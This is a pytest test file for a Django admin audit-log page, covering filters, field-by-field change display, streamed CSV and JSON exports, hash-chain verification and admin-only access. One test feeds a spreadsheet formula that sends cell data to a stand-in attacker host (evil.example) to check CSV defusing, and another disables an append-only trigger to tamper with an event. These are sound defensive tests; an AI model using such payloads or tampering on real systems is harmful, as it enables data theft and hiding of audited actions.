"""The audit page for admins: its filters (the API and the exports read them the same way), each
event's changes field by field, the streamed CSV and JSON exports, and the chain's state with
"Verify now" (tampering done as tests/security/test_audit_chain.py does it)."""

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.db import connection
from django.test import AsyncClient, Client, override_settings

from console.audit import Actor, audit_keys
from console.audit_diff import SHOWN_CHARACTERS, field_changes
from console.models import AuditEvent
from console.services import create_token
from registry import services
from registry.models import RegisteredModel
from tests.conftest import ready_version

pytestmark = pytest.mark.django_db

HTMX = {"HX-Request": "true"}
REFUSED = '<p class="error" role="alert">only an admin can read the audit log</p>'


@pytest.fixture(autouse=True)
def _own_anchors(tmp_path: Path) -> Iterator[None]:
    """No other test's anchors: the chain checked here is this test's alone."""
    with override_settings(PADDOCK_AUDIT_ANCHOR_FILE=str(tmp_path / "anchors.jsonl")):
        yield


@pytest.fixture
def admin(cast: dict[str, Any]) -> Client:
    client = Client()
    client.force_login(cast["admin"])
    return client


@pytest.fixture
def history(cast: dict[str, Any], teams: dict[str, Any]) -> dict[str, Any]:
    """Team ml's model iris (created, a version, tags changed), team other's model wine, and an
    admin's token: events of two teams, of no team, by three people and the system."""
    engineer, outsider = Actor(user=cast["engineer"]), Actor(user=cast["outsider"])
    iris = services.create_model(actor=engineer, name="iris", team=teams["ml"], tags=["tabular"])
    ready_version(iris, 1)
    services.update_model(actor=engineer, model=iris, tags=["tabular", "v2"])
    wine = services.create_model(actor=outsider, name="wine", team=teams["other"])
    create_token(actor=Actor(user=cast["admin"]), user=cast["admin"], name="laptop", scopes=["read"])
    return {"iris": iris, "wine": wine}


def listed(client: Client, **params: str) -> list[int]:
    """The ids of the events the audit table shows for `params`, in its order."""
    response = client.get("/audit/", params, headers=HTMX)
    assert response.status_code == 200, response.content.decode()
    return [int(n) for n in re.findall(r'<tr data-event="(\d+)"', response.content.decode())]


def ids(**lookups: Any) -> list[int]:
    return list(AuditEvent.objects.filter(**lookups).order_by("-id").values_list("id", flat=True))


def test_each_filter_narrows_the_list(admin: Client, history: dict[str, Any]) -> None:
    everything = listed(admin)
    assert everything == ids() and len(everything) >= 7
    assert listed(admin, actor="outsider") == ids(actor_username="outsider") != []
    assert listed(admin, action="model.update") == ids(action="model.update") != []
    assert listed(admin, action="model.") == ids(action__startswith="model.") != []
    assert listed(admin, action="version*") == ids(action__startswith="version") != []
    assert listed(admin, action="model") == []  # a name without "." or "*" is exact
    iris = str(history["iris"].pk)
    assert listed(admin, object_type="registry.registeredmodel", object_id=iris) == ids(
        object_type="registry.registeredmodel", object_id=iris) != []
    # Team ml: iris's events and its version's, never wine's (team other) nor the admin's token.
    ml = listed(admin, team="ml")
    version = str(history["iris"].versions.get().pk)
    assert set(ml) == set(ids(object_type="registry.registeredmodel", object_id=iris)) | set(
        ids(object_type="registry.modelversion", object_id=version)) | set(
        ids(object_type="registry.alias", object_id__in=[str(a.pk) for a in history["iris"].aliases.all()]))
    assert not set(ml) & set(ids(object_type="registry.registeredmodel", object_id=str(history["wine"].pk)))
    assert listed(admin, team="other") == ids(object_type="registry.registeredmodel",
                                               object_id=str(history["wine"].pk))
    # Since is inclusive, until exclusive.
    update, wine = AuditEvent.objects.get(action="model.update"), ids(action="model.create")[0]
    window = listed(admin, since=update.created_at.isoformat(),
                    until=AuditEvent.objects.get(pk=wine).created_at.isoformat())
    assert window == ids(created_at__gte=update.created_at, pk__lt=wine) and window[-1] == update.pk
    # Filters combine.
    assert listed(admin, actor="engineer", action="model.", team="ml") == ids(
        actor_username="engineer", action__startswith="model.")


def test_a_filter_it_cannot_read_is_refused_with_its_message(admin: Client, history: dict[str, Any]) -> None:
    bad_time = admin.get("/audit/", {"since": "yesterday"}, headers=HTMX)
    assert bad_time.status_code == 400
    assert '<p class="error" role="alert">&#x27;since&#x27; is not an ISO 8601 date-time: &#x27;yesterday&#x27;</p>' \
        in bad_time.content.decode()
    page = admin.get("/audit/", {"team": "nope"})
    assert page.status_code == 400 and "&#x27;team&#x27; names no team: &#x27;nope&#x27;" in page.content.decode()
    assert 'value="nope"' not in page.content.decode()  # a select: the known teams only
    export = admin.get("/audit/export.csv", {"until": "2026-02-30T10:00"})
    assert export.status_code == 400
    assert "&#x27;until&#x27; is not an ISO 8601 date-time: &#x27;2026-02-30T10:00&#x27;" in export.content.decode()
    assert admin.get("/audit/export.xml").status_code == 404
    assert not AuditEvent.objects.filter(action="audit.exported").exists()


def test_the_page_keeps_its_filters_across_pages(admin: Client, cast: dict[str, Any]) -> None:
    for number in range(55):
        create_token(actor=Actor(user=cast["admin"]), user=cast["admin"], name=f"t{number}", scopes=["read"])
    html = admin.get("/audit/", {"action": "token.create"}).content.decode()
    assert "55 events." in html and "page 1 of 2" in html
    assert 'href="?action=token.create&amp;page=2"' in html
    second = admin.get("/audit/", {"action": "token.create", "page": "2"}, headers=HTMX).content.decode()
    assert len(re.findall(r"<tr data-event=", second)) == 5


def row(html: str, event: AuditEvent) -> str:
    match = re.search(rf'<tr data-event="{event.pk}">(.*?)</tr>', html, re.S)
    assert match, f"event {event.pk} is not listed"
    return match.group(1)


def test_each_event_shows_its_changes_field_by_field(admin: Client, history: dict[str, Any]) -> None:
    html = admin.get("/audit/").content.decode()
    update = row(html, AuditEvent.objects.get(action="model.update"))
    changes = re.findall(r"<dt>(.*?) <small", update)
    assert changes == ["tags"]  # name, team, owner, description did not change: not listed
    assert '<code class="value before">[&quot;tabular&quot;]</code>' in update
    assert '<code class="value after">[&quot;tabular&quot;, &quot;v2&quot;]</code>' in update
    assert "<small class=\"muted\">changed</small>" in update
    created = row(html, AuditEvent.objects.get(action="model.create", object_repr="wine"))
    assert re.findall(r"<dt>(.*?) <small", created) == ["description", "name", "owner", "tags", "team"]
    assert "<small class=\"muted\">added</small>" in created and "(absent)" in created
    assert "{&#x27;name&#x27;" not in html  # no raw dict anywhere


def test_a_long_value_is_cut_with_the_whole_of_it_one_click_away(admin: Client, history: dict[str, Any]) -> None:
    long = "flowers " * 40
    services.update_model(actor=Actor.system("tests"), model=history["iris"], description=long)
    html = row(admin.get("/audit/").content.decode(), AuditEvent.objects.filter(action="model.update").latest("id"))
    assert f"<summary><code>{long[:SHOWN_CHARACTERS - 1]}…</code></summary><code>{long}</code>" in html


def exported(response: Any) -> str:
    assert response.status_code == 200 and response.streaming is True
    return b"".join(response.streaming_content).decode()


def test_the_exports_hold_exactly_the_filtered_events_and_stream(admin: Client, history: dict[str, Any]) -> None:
    expected = sorted(ids(action__startswith="model.", actor_username="engineer"))
    filters = {"action": "model.", "actor": "engineer"}
    response = admin.get("/audit/export.csv", filters)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="paddock-audit-\d{8}T\d{6}Z\.csv"', response["Content-Disposition"])
    assert response["Cache-Control"] == "no-store"
    rows = list(csv.DictReader(io.StringIO(exported(response))))
    assert [int(r["id"]) for r in rows] == expected  # oldest first
    stored = {e.pk: e for e in AuditEvent.objects.filter(pk__in=expected)}
    for record in rows:
        event = stored[int(record["id"])]
        assert (record["hash"], record["prev_hash"], record["key_id"]) == (event.hash, event.prev_hash, event.key_id)
        assert (json.loads(record["after"]) if record["after"] else None) == event.after
        assert record["action"] == event.action
    body = json.loads(exported(admin.get("/audit/export.json", filters)))
    assert [item["id"] for item in body] == expected
    keys = dict(audit_keys())
    for item in body:  # every hashed column, as hashed: whoever holds the key checks an export
        columns = {name: value for name, value in item.items() if name not in ("id", "hash", "key_id")}
        columns["created_at"] = datetime.fromisoformat(columns["created_at"])
        assert AuditEvent(**columns).compute_hash(keys[item["key_id"]]) == item["hash"] == stored[item["id"]].hash
    # Each export is audited, with its format and filters.
    assert [e.after for e in AuditEvent.objects.filter(action="audit.exported").order_by("id")] == [
        {"format": "csv", "filters": filters}, {"format": "json", "filters": filters}]


def test_an_unfiltered_json_export_is_the_whole_chain_in_order(admin: Client, history: dict[str, Any]) -> None:
    body = json.loads(exported(admin.get("/audit/export.json")))
    assert [item["id"] for item in body] == sorted(ids())  # its own audit.exported included, last
    assert all(later["prev_hash"] == earlier["hash"] for earlier, later in zip(body, body[1:], strict=False))


def test_csv_cells_a_spreadsheet_would_run_are_defused(admin: Client, cast: dict[str, Any]) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    create_token(actor=Actor(user=cast["engineer"]), user=cast["engineer"], name=name, scopes=["read"])
    [record] = csv.DictReader(io.StringIO(exported(admin.get("/audit/export.csv", {"action": "token.create"}))))
    assert record["object_repr"].startswith("'=HYPERLINK(")
    [item] = json.loads(exported(admin.get("/audit/export.json", {"action": "token.create"})))
    assert item["object_repr"].startswith("=HYPERLINK(")  # the JSON is verbatim


def test_the_chain_panel_says_intact_after_verify_now(admin: Client, cast: dict[str, Any],
                                                      history: dict[str, Any]) -> None:
    page = admin.get("/audit/").content.decode()
    assert 'data-state="unverified"' in page and "Not checked from the console yet." in page
    head = AuditEvent.objects.latest("id")
    answer = admin.post("/audit/verify/", headers=HTMX)
    assert answer.status_code == 200
    html = answer.content.decode()
    assert 'id="audit-chain"' in html and 'data-state="intact"' in html
    count = AuditEvent.objects.filter(pk__lte=head.pk).count()
    assert f"up to event {head.pk} ({count} events)," in html and "by admin in" in html
    verified = AuditEvent.objects.get(action="audit.verified")
    assert verified.actor_username == "admin" and verified.object_id == str(head.pk)
    assert verified.after is not None and verified.after["intact"] is True and verified.after["up_to"] == head.pk
    # The page shows the stored result; events written after it are said to be outside it.
    create_token(actor=Actor(user=cast["admin"]), user=cast["admin"], name="later", scopes=["read"])
    page = admin.get("/audit/").content.decode()
    assert f"up to event {head.pk}" in page and "1 event written since, not covered by this check." in page
    # Without htmx, the button's form posts and comes back to the page.
    plain = admin.post("/audit/verify/")
    assert plain.status_code == 302 and plain["Location"] == "/audit/"


def test_verify_now_reports_the_first_broken_link_after_tampering(admin: Client, history: dict[str, Any]) -> None:
    target = AuditEvent.objects.get(action="model.update")
    with connection.cursor() as cursor:
        # Tampering needs the trigger out of the way: exactly what an attacker with DDL rights would do.
        cursor.execute("ALTER TABLE console_auditevent DISABLE TRIGGER audit_event_append_only")
        cursor.execute("UPDATE console_auditevent SET actor_username = 'someone-else' WHERE id = %s", [target.pk])
        cursor.execute("ALTER TABLE console_auditevent ENABLE TRIGGER audit_event_append_only")
    html = admin.post("/audit/verify/", headers=HTMX).content.decode()
    assert 'data-state="broken"' in html
    assert (f"at event {target.pk}: its contents do not match its hash (edited after it was written)."
            in " ".join(html.split()))
    verified = AuditEvent.objects.get(action="audit.verified")
    assert verified.after is not None
    assert (verified.after["intact"], verified.after["broken_at"]) == (False, target.pk)


def test_non_admins_are_refused_the_page_its_exports_and_verify(cast: dict[str, Any], history: dict[str, Any]) -> None:
    engineer = Client()
    engineer.force_login(cast["engineer"])
    for response in (engineer.get("/audit/"), engineer.get("/audit/", headers=HTMX),
                     engineer.get("/audit/export.csv"), engineer.get("/audit/export.json"),
                     engineer.post("/audit/verify/", headers=HTMX)):
        assert response.status_code == 403 and REFUSED in response.content.decode()
    assert engineer.post("/audit/verify/", headers=HTMX).content.decode().strip() == REFUSED
    assert not AuditEvent.objects.filter(action__in=["audit.verified", "audit.exported"]).exists()
    anonymous = Client().get("/audit/export.csv")
    assert anonymous.status_code == 302 and anonymous["Location"] == "/login/?next=/audit/export.csv"


def test_the_api_reads_the_same_filters(client_for: Any, admin: Client, history: dict[str, Any]) -> None:
    api = client_for("admin", "admin")
    for params in ({"team": "ml"}, {"action": "model."}, {"action": "model.update"}, {"actor": "outsider"}):
        answer = api.get("/api/v1/audit/", params)
        assert answer.status_code == 200
        assert [e["id"] for e in answer.json()["results"]] == listed(admin, **params)
    refused = api.get("/api/v1/audit/", {"team": "nope"})
    assert refused.status_code == 400 and refused.json() == {"detail": "'team' names no team: 'nope'"}


def test_a_team_keeps_the_events_of_its_rollouts(admin: Client, iris: RegisteredModel, cast: dict[str, Any]) -> None:
    from serving.rollouts import start_rollout

    rollout = start_rollout(actor=Actor(user=cast["engineer"]), model=iris, candidate=2, strategy="canary")
    ml = listed(admin, team="ml", object_type="serving.rollout")
    assert ml == ids(object_type="serving.rollout", object_id=str(rollout.pk)) != []
    assert listed(admin, team="other", object_type="serving.rollout") == []
    # A rollout's event records dozens of figures: six are shown, the rest one click away.
    start = AuditEvent.objects.get(action="rollout.start")
    hidden = len(field_changes(start.before, start.after)) - 6
    assert hidden > 10
    html = row(admin.get("/audit/", {"action": "rollout.start"}).content.decode(), start)
    assert len(re.findall(r"<dt>", html)) == 6 + hidden
    assert f'<details class="more-changes"><summary>{hidden} more fields</summary>' in html


def test_under_asgi_the_export_streams_from_an_async_iterator(cast: dict[str, Any], history: dict[str, Any],
                                                               recwarn: pytest.WarningsRecorder) -> None:
    """Django reads a plain iterator whole before an ASGI server sends a byte (and warns): under
    ASGI the export is an async iterator, each batch read in the request's thread."""
    async def fetch() -> tuple[bool, bytes]:
        client = AsyncClient()
        await client.aforce_login(cast["admin"])
        response: Any = await client.get("/audit/export.json", {"action": "model."})  # a StreamingHttpResponse
        assert response.status_code == 200 and response.streaming
        return response.is_async, b"".join([chunk async for chunk in response.streaming_content])

    is_async, body = async_to_sync(fetch)()
    assert is_async
    assert [item["id"] for item in json.loads(body)] == sorted(ids(action__startswith="model."))
    assert not [w for w in recwarn if "synchronous iterators" in str(w.message)]
